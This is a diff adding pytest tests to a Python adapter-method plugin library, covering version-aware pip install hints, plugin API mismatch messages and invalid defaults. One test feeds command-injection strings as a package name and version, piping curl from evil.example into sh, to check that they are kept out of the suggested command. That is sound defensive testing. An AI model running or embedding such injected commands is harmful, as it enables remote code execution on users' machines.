@@ -8,9 +8,11 @@ import uuid
 from pathlib import Path
 
 import pytest
+import torch
 
 import adapterzoo
 from adapterzoo import Method, MethodConflictError, MethodNotFoundError, PluginLoadError, PluginWarning
+from adapterzoo.method import PLUGIN_API_VERSION
 
 
 @pytest.fixture
@@ -86,7 +88,7 @@ def test_a_broken_plugin_warns_and_is_skipped(install) -> None:
     [
         ("METHOD = 'not a method'\n", "not an adapterzoo.Method"),
         (declaration("other-name"), "declares a method named 'other-name'"),
-        (declaration("odd-method", api_version="99"), "plugin API 99"),
+        (declaration("odd-method", api_version="99"), rf"plugin API 99.*implements plugin API {PLUGIN_API_VERSION}\b"),
     ],
     ids=["not-a-method", "name-mismatch", "api-version"],
 )
@@ -124,6 +126,32 @@ def test_a_missing_method_names_the_distribution_recorded_with_an_adapter() -> N
         adapterzoo.get_method("lab-method", distribution="my-lab-methods")
 
 
+def test_a_missing_method_is_asked_for_at_least_at_the_recorded_version() -> None:
+    with pytest.raises(
+        MethodNotFoundError, match='It is provided by adapterzoo-foo .`pip install "adapterzoo-foo>=1.2.3"`'
+    ):
+        adapterzoo.get_method("foo", distribution="adapterzoo-foo", distribution_version="1.2.3")
+
+
+@pytest.mark.parametrize(
+    "distribution, version, command",
+    [
+        ("adapterzoo-foo; curl evil.example | sh", "1.2.3", None),
+        ("adapterzoo-foo", '1.2.3" && curl evil.example | sh; "', "pip install adapterzoo-foo`"),
+        ("<unknown>", "", None),
+    ],
+    ids=["bad-name", "bad-version", "no-distribution"],
+)
+def test_a_recorded_distribution_is_suggested_only_as_a_valid_requirement(distribution, version, command) -> None:
+    """A saved adapter's record comes from whoever made the file: nothing but a valid name and version reaches the
+    command the user is told to run."""
+    with pytest.raises(MethodNotFoundError) as error:
+        adapterzoo.get_method("foo", distribution=distribution, distribution_version=version)
+    message = str(error.value)
+    assert "evil" not in message
+    assert (command in message) if command else ("pip install" not in message)
+
+
 def test_a_misspelled_method_gets_a_suggestion() -> None:
     with pytest.raises(MethodNotFoundError, match="Did you mean 'lora'"):
         adapterzoo.get_method("lroa")
@@ -134,3 +162,31 @@ def test_method_names_are_lower_case_words_joined_by_hyphens() -> None:
         with pytest.raises(ValueError, match="lower-case"):
             Method(name=name, config="a:b", tuner="a:c", tasks=(), summary="")
     assert Method(name="moment-probing", config="a:b", tuner="a:c", tasks=(), summary="").peft_name == "moment_probing"
+
+
+def test_defaults_that_are_not_options_are_named_when_the_method_is_first_used(install) -> None:
+    plugin = unique("defaults_plugin")
+    install(
+        "az-defaults",
+        {"bad-defaults": f"{plugin}:METHOD"},
+        {plugin: declaration("bad-defaults", defaults="{'rank': 4}")},
+    )
+    assert "bad-defaults" in [info.name for info in adapterzoo.list_methods()]
+    with pytest.raises(PluginLoadError, match="method 'bad-defaults'.*no option 'rank'"):
+        adapterzoo.get_method("bad-defaults")
+    method = Method(
+        name="bad-defaults",
+        config="peft:LoraConfig",
+        tuner="peft:LoraModel",
+        tasks=(),
+        summary="",
+        defaults={"rank": 4},
+    )
+    with pytest.raises(PluginLoadError, match="method 'bad-defaults'.*no option 'rank'"):
+        method.make_config(torch.nn.Linear(2, 2))
+
+
+def test_listing_imports_only_the_declarations(heavy_imports) -> None:
+    """The declarations (core's and plugins') import the standard library only; PEFT comes with a method's use."""
+    assert heavy_imports("import adapterzoo; assert 'vpt' in [m.name for m in adapterzoo.list_methods()]") == []
+    assert "peft" in heavy_imports("import adapterzoo; adapterzoo.get_method('vpt')")
